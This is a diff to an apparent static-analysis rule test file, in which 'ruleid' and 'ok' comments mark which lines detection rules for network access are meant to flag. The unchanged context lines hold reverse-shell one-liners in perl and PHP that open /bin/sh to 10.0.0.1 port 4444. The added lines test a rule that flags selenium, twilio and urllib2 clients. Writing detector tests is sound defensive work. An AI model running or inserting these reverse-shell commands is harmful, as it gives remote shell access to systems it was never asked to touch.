@@ -125,3 +125,16 @@ os.system("perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,$a);ope
 os.system("php -r '$s=fsockopen(\"10.0.0.1\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");'")
 # ok: AIR-NET-008
 os.system("perl -e 'print 42'")
+
+from selenium import webdriver
+from twilio.rest import Client as Twilio
+import urllib2
+
+# ruleid: AIR-NET-015
+driver = webdriver.Firefox()
+# ruleid: AIR-NET-015
+sms = Twilio("AC123", "token")
+# ruleid: AIR-NET-015
+opener = urllib2.build_opener()
+# ok: AIR-NET-015
+options = webdriver.FirefoxOptions
